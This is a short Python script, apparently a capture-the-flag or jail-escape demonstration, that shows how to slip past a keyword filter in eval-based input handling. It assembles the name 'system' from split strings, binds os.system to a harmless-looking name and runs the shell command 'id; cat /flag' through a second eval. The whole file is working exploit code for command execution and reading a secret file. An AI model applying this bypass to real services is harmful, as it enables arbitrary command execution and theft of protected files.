# Two evals, each of harmless text: the first yields a plain string key, the
# program uses it to pick an entry of vars(os), and the second evaluates a
# call of a harmless-looking name bound to that entry in the namespace.
import io
import os
import sys

sys.stdin = io.StringIO("'sy' + 'stem'\nshow('id; cat /flag')\n")

table = vars(os)
key = eval(input())
env = {"show": table[key]}
print(eval(input(), env))
